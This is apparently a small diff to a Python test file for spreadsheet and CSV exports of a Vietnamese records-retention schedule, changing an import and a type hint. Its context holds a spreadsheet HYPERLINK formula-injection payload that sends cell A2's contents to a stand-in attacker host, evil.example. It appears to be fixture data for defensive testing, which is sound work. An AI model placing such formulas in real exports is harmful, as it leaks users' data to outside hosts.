@@ -4,6 +4,7 @@ every export (CLI and web), and a manifest in a legacy encoding refused by its n
 
 import csv
 import io
+from collections.abc import Sequence
 from pathlib import Path
 
 import pytest
@@ -22,7 +23,7 @@ HEADERS = ["Điều khoản", "Tên nhóm hồ sơ tài liệu", "Thời hạn b
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")'
 
 
-def workbook(*rows: list[object]) -> bytes:
+def workbook(*rows: Sequence[object]) -> bytes:
     book = Workbook()
     sheet = book.active
     assert sheet is not None
